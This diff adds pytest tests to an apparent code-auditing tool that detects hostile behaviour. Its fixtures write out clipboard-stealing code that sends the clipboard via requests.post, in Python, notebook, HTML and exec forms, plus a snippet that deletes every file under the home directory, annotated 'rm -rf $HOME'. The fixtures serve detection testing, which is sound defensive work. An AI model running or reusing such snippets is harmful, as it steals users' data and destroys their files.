@@ -2,10 +2,13 @@
 
 from __future__ import annotations
 
+import json
 import time
 
+import pytest
 from support.audited import audited
 
+from skillkeep.auditor.engines.behaviour.acts import Acts
 from skillkeep.auditor.engines.behaviour.dropped import drops
 from skillkeep.auditor.engines.behaviour.scripts import spelled_out
 from skillkeep.auditor.engines.interface import Context, Segment
@@ -68,3 +71,38 @@ def test_a_hostile_text_does_not_make_the_search_for_dropped_programs_slow() -> 
     start = time.process_time()
     list(drops(text))
     assert time.process_time() - start < 20
+
+
+TAKES, GIVES = "import pyperclip\ntaken = pyperclip.paste()\n", "import requests\nrequests.post(where, data=taken)\n"
+
+
+def notebook(*cells: str) -> str:
+    made = [{"cell_type": "code", "metadata": {}, "outputs": [], "source": cell} for cell in cells]
+    return json.dumps({"cells": made, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}, indent=1)
+
+
+@pytest.mark.parametrize(
+    "files",
+    [
+        {"a.py": TAKES + GIVES},
+        {"a.ipynb": notebook(TAKES, GIVES)},
+        {"a.ipynb": notebook(GIVES, TAKES)},
+        {"a.html": f"<script>{TAKES}</script><script>requests.post(where)</script>"},
+        {"a.py": f"{TAKES}exec({GIVES!r})\n"},
+        {"a.py": f"{GIVES}exec({TAKES!r})\n"},
+    ],
+)
+def test_acts_of_one_path_are_a_chain_whatever_parts_of_it_they_stand_in(files: dict[str, str | bytes]) -> None:
+    assert "tactic-clipboard-sent" in rules(audited(files))
+    halves = {name: str(text).replace("paste", "copy") for name, text in files.items()}
+    assert "tactic-clipboard-sent" not in rules(audited(dict(halves)))
+
+
+def test_acts_are_the_same_whichever_is_asked_for_first() -> None:
+    walks = "import os\nroot = os.path.expanduser('~')\nfor a in os.walk(root):\n    os.remove(a)\n# rm -rf $HOME\n"
+    segment = Segment("a.py", Context.PYTHON, walks + GIVES)
+    acts, other = Acts(segment), Acts(segment)
+    wanted = {act.kind for act in acts.all()}
+    assert {"home", "send"} <= wanted <= acts.possible
+    assert other.those(sorted(wanted, reverse=True)) == acts.all()
+    assert set(Acts(segment).chained()) <= set(acts.all())
